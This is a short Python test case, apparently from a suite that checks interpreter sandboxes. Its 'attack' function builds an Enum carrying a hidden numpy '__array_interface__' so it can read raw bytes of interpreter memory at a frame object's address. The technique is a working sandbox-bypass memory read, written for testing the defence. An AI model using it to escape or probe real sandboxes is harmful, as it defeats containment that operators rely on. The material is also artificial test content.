# attack: make a class with computed special attributes by calling an enumeration
# class: interpreter walk
# wall: separate_process

from enum import Enum

import numpy as np


def attack(frame, frame_index, config):
    fields = {"shape": (8,), "typestr": "|u1", "data": (id(frame), False), "version": 3}
    found = Enum("Found", {"ONE": 1, "_" + "_array_interface_" + "_": fields})
    return f"inside: {bytes(np.asarray(found.ONE)).hex()}"
